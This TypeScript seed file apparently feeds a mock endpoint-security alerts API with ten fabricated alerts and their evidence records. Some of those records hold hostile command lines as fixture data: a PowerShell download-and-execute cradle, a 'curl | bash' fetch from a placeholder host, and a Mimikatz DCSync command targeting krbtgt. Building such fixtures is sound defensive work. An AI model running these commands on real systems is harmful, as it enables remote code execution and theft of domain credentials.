import type { Alert } from '../state/entities';
import { buildAlert, type AlertSpec } from './alert.factory';
import { evidence, fileEvidence, userEvidence } from './evidence.factory';
import { SEED } from './seed-ids';
import { USERS } from './users.seed';

const M = SEED.machines;
const F = SEED.files;

const SPECS: AlertSpec[] = [
  {
    id: SEED.alerts.highSeverityOnWindows, machine: M.financeWorkstation, rbacGroupName: 'Finance Workstations', createdMinutesAgo: 35,
    severity: 'High', status: 'New', detectionSource: 'WindowsDefenderAtp', category: 'Execution', incidentId: 4211,
    title: 'Suspicious PowerShell download cradle executed from an Office document',
    description: 'A macro-enabled document started PowerShell, which downloaded and ran a script from a remote host. This is a common initial access technique used by commodity loaders.',
    user: USERS.jdoe, mitreTechniques: ['T1059.001', 'T1204.002', 'T1105'],
    evidence: (at, ev) => [
      userEvidence(at, USERS.jdoe),
      fileEvidence(at, F.maliciousDocument, 'C:\\Users\\jdoe\\Downloads', 'Detected'),
      evidence('Process', at, {
        sha1: F.powershell.sha1, sha256: F.powershell.sha256, fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
        processId: 7812, processCommandLine: `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${SEED.domains.payloadCdn}/dl/payload.ps1')"`,
        processCreationTime: ev(2), parentProcessId: 5520, parentProcessCreationTime: ev(3), parentProcessFileName: 'WINWORD.EXE',
        parentProcessFilePath: 'C:\\Program Files\\Microsoft Office\\root\\Office16', detectionStatus: 'Detected',
      }),
      evidence('Ip', at, { ipAddress: SEED.ips.torExitC2 }),
      evidence('Url', at, { url: `http://${SEED.domains.payloadCdn}/dl/payload.ps1` }),
    ],
  },
  {
    id: SEED.alerts.malwareOnFinance, machine: M.financeWorkstation, rbacGroupName: 'Finance Workstations', createdMinutesAgo: 320,
    severity: 'Medium', status: 'InProgress', detectionSource: 'WindowsDefenderAv', category: 'Malware', incidentId: 4211,
    assignedTo: 'secops@contoso.com', threatFamilyName: 'Emotet', threatName: 'Trojan:Win32/Emotet.RPX!MTB',
    title: "'Emotet' malware was detected", description: 'Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines.',
    user: USERS.jdoe, mitreTechniques: ['T1204.002'], investigationId: 7301, investigationState: 'Running',
    comments: [{ comment: 'Triage started, user contacted.', createdBy: 'secops@contoso.com', minutesAgo: 300 }],
    evidence: (at) => [fileEvidence(at, F.emotetDll, 'C:\\Users\\jdoe\\AppData\\Local\\Temp', 'Prevented'), userEvidence(at, USERS.jdoe)],
  },
  {
    id: SEED.alerts.credentialTheftOnDomainController, machine: M.domainController, rbacGroupName: 'Tier 0 Servers', createdMinutesAgo: 95,
    severity: 'High', status: 'New', detectionSource: 'WindowsDefenderAtp', category: 'CredentialAccess', incidentId: 4215,
    threatName: 'HackTool:Win64/Mimikatz.D', title: 'Mimikatz credential theft tool', description: 'The Mimikatz credential theft tool was detected. Attackers use it to harvest credentials from memory.',
    user: USERS.mbrown, mitreTechniques: ['T1003.001', 'T1003.006'],
    evidence: (at, ev) => [
      userEvidence(at, USERS.mbrown),
      evidence('Process', at, {
        sha1: F.mimikatz.sha1, sha256: F.mimikatz.sha256, fileName: F.mimikatz.name, filePath: 'C:\\ProgramData\\tmp', processId: 4420,
        processCommandLine: 'mimi64.exe "lsadump::dcsync /domain:contoso.local /user:krbtgt" exit', processCreationTime: ev(2),
        parentProcessId: 3310, parentProcessCreationTime: ev(3), parentProcessFileName: 'cmd.exe', parentProcessFilePath: 'C:\\Windows\\System32', detectionStatus: 'Detected',
      }),
      fileEvidence(at, F.mimikatz, 'C:\\ProgramData\\tmp', 'Detected'),
      evidence('Ip', at, { ipAddress: '10.10.1.21' }), // DCSync requested from the finance workstation
    ],
  },
  {
    id: SEED.alerts.resolvedPhishingOnHr, machine: M.hrWorkstation, rbacGroupName: 'HR Workstations', createdMinutesAgo: 2 * 24 * 60 + 30,
    severity: 'Medium', status: 'Resolved', detectionSource: 'WindowsDefenderAtp', category: 'InitialAccess', incidentId: 4190,
    classification: 'TruePositive', determination: 'Phishing', assignedTo: 'secops@contoso.com', resolvedMinutesAgo: 2 * 24 * 60 - 60,
    investigationId: 7288, investigationState: 'SuccessfullyRemediated',
    title: 'Suspicious Office macro executed from an email attachment', description: 'An Office document opened from an email attachment executed a macro that started a script interpreter.',
    user: USERS.asmith, mitreTechniques: ['T1566.001', 'T1204.002'],
    comments: [{ comment: 'Device isolated, mailbox purged. Closing.', createdBy: 'secops@contoso.com', minutesAgo: 2 * 24 * 60 - 60 }],
    evidence: (at) => [userEvidence(at, USERS.asmith), fileEvidence(at, F.maliciousDocument, 'C:\\Users\\asmith\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q1W2E3R4', 'Remediated')],
  },
  {
    id: SEED.alerts.linuxShellOnWebServer, machine: M.linuxWebServer, rbacGroupName: 'DMZ', createdMinutesAgo: 140,
    severity: 'Medium', status: 'New', detectionSource: 'WindowsDefenderAtp', category: 'Execution', incidentId: 4216,
    title: 'Suspicious shell script downloaded and executed by a web server process', description: 'A process running as the web server account downloaded a shell script with curl and piped it to bash.',
    user: USERS.wwwData, mitreTechniques: ['T1059.004', 'T1105', 'T1190'],
    evidence: (at, ev) => [
      evidence('Process', at, {
        sha1: F.bash.sha1, sha256: F.bash.sha256, fileName: 'bash', filePath: '/usr/bin', processId: 23114,
        processCommandLine: `bash -c "curl -s http://${SEED.ips.linuxExfil}:8080/kworker_update.sh | bash"`, processCreationTime: ev(2),
        parentProcessId: 1290, parentProcessCreationTime: ev(400), parentProcessFileName: 'php-fpm8.1', parentProcessFilePath: '/usr/sbin', detectionStatus: null,
      }),
      fileEvidence(at, F.linuxDropper, '/tmp', 'Detected'),
      evidence('Ip', at, { ipAddress: SEED.ips.linuxExfil }),
      evidence('Url', at, { url: `http://${SEED.ips.linuxExfil}:8080/kworker_update.sh` }),
    ],
  },
  {
    id: SEED.alerts.puaOnMac, machine: M.macDesigner, rbacGroupName: 'Design', createdMinutesAgo: 9 * 24 * 60 + 10,
    severity: 'Low', status: 'New', detectionSource: 'WindowsDefenderAv', category: 'UnwantedSoftware', incidentId: 4172,
    threatFamilyName: 'Bundlore', threatName: 'PUA:MacOS/Bundlore.A', title: "'Bundlore' unwanted software was detected",
    description: 'Potentially unwanted applications can impact device performance and install additional software.',
    user: USERS.designer, mitreTechniques: [],
    evidence: (at) => [fileEvidence(at, F.macPua, '/Users/mgarcia/Downloads', 'Detected'), userEvidence(at, USERS.designer)],
  },
  {
    id: SEED.alerts.customIndicatorOnSql, machine: M.sqlServer, rbacGroupName: 'Tier 1 Servers', createdMinutesAgo: 600,
    severity: 'High', status: 'InProgress', detectionSource: 'CustomerTI', category: 'CommandAndControl', incidentId: 4205,
    assignedTo: 'tier2@contoso.com', title: `A connection to a blocked IP address was detected (${SEED.ips.blockedByIndicator})`,
    description: 'A process connected to an IP address that matches a custom indicator of compromise defined by your organization.',
    user: USERS.svcSql, mitreTechniques: ['T1071'],
    evidence: (at) => [evidence('Ip', at, { ipAddress: SEED.ips.blockedByIndicator }), userEvidence(at, USERS.svcSql)],
  },
  {
    id: SEED.alerts.securityTestingOnDeveloper, machine: M.developerWorkstation, rbacGroupName: 'Engineering', createdMinutesAgo: 26 * 60,
    severity: 'Informational', status: 'Resolved', detectionSource: 'CustomDetection', category: 'DefenseEvasion', incidentId: 4199,
    classification: 'InformationalExpectedActivity', determination: 'SecurityTesting', resolvedMinutesAgo: 25 * 60,
    title: 'Custom detection: encoded PowerShell command', description: 'A PowerShell process was started with a Base64 encoded command line.',
    user: USERS.dlee, mitreTechniques: ['T1027'],
    evidence: (at, ev) => [
      evidence('Process', at, {
        sha1: F.powershell.sha1, sha256: F.powershell.sha256, fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
        processId: 9120, processCommandLine: 'powershell.exe -EncodedCommand VwByAGkAdABlAC0ASABvAHMAdAAgACcAYQB0AG8AbQBpAGMAJwA=',
        processCreationTime: ev(1), parentProcessId: 8800, parentProcessCreationTime: ev(30), parentProcessFileName: 'WindowsTerminal.exe',
        parentProcessFilePath: 'C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal', detectionStatus: null,
      }),
    ],
  },
  {
    id: SEED.alerts.smartScreenOnDeveloper, machine: M.developerWorkstation, rbacGroupName: 'Engineering', createdMinutesAgo: 12,
    severity: 'Low', status: 'New', detectionSource: 'WindowsDefenderSmartScreen', category: 'SuspiciousActivity', incidentId: 4219,
    title: 'SmartScreen blocked a connection to a known phishing site', description: 'Microsoft Defender SmartScreen blocked a URL flagged as a credential phishing page.',
    user: USERS.dlee, mitreTechniques: ['T1566.002'],
    evidence: (at) => [evidence('Url', at, { url: `https://${SEED.domains.phishing}/verify?session=8f2a` }), userEvidence(at, USERS.dlee)],
  },
  {
    id: SEED.alerts.registryPersistenceOnSales, machine: M.salesWorkstation, rbacGroupName: 'Sales Workstations', createdMinutesAgo: 55 * 60,
    severity: 'Medium', status: 'New', detectionSource: 'WindowsDefenderAtp', category: 'Persistence', incidentId: 4208,
    title: 'Anomaly detected in ASEP registry', description: 'A process registered a suspicious command or file in an auto-start registry key.',
    user: USERS.sales, mitreTechniques: ['T1547.001'],
    evidence: (at, ev) => [
      evidence('Registry', at, {
        registryKey: 'HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', registryHive: 'HKEY_CURRENT_USER',
        registryValueType: 'String', registryValueName: 'OneDriveUpdate', registryValue: 'C:\\Users\\rpatel\\AppData\\Roaming\\OneDriveUpdater.exe /silent',
      }),
      evidence('Process', at, {
        sha1: F.runKeyPayload.sha1, sha256: F.runKeyPayload.sha256, fileName: F.runKeyPayload.name, filePath: 'C:\\Users\\rpatel\\AppData\\Roaming',
        processId: 6604, processCommandLine: 'OneDriveUpdater.exe /install', processCreationTime: ev(2), parentProcessId: 4400,
        parentProcessCreationTime: ev(10), parentProcessFileName: 'explorer.exe', parentProcessFilePath: 'C:\\Windows', detectionStatus: 'Detected',
      }),
      userEvidence(at, USERS.sales),
    ],
  },
];

/** Alerts sorted oldest first, which is the order lists return them in. */
export function seedAlerts(base: number, tenantId: string): Alert[] {
  return SPECS.map((s) => buildAlert(s, base, tenantId)).sort((a, b) => a.alertCreationTime.localeCompare(b.alertCreationTime));
}
